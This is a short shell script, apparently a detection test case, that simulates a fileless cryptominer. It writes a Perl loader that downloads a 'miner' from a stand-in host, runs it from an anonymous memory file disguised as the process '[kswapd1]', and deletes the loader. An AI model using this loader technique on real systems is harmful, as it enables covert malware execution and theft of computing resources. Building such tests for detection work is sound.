#!/bin/sh
. /opt/case/case.sh

cat >/tmp/l.pl <<'END'
use IO::Socket::INET;
my $s = IO::Socket::INET->new("203.0.113.10:80") or die;
print $s "GET /programs/miner HTTP/1.0\r\n\r\n"; local $/; my $all = <$s>; $all =~ s/^.*?\r\n\r\n//s;
my $name = "x"; my $fd = syscall(319, $name, 0); open(my $f, ">&=", $fd); binmode $f; print $f $all; $f->flush;
exec { "/proc/$$/fd/$fd" } "[kswapd1]", "burn";
END
perl /tmp/l.pl >/tmp/out & miner=$!
sleep 0.5; rm /tmp/l.pl
wait $miner
grep -q job_id /tmp/out
took_place
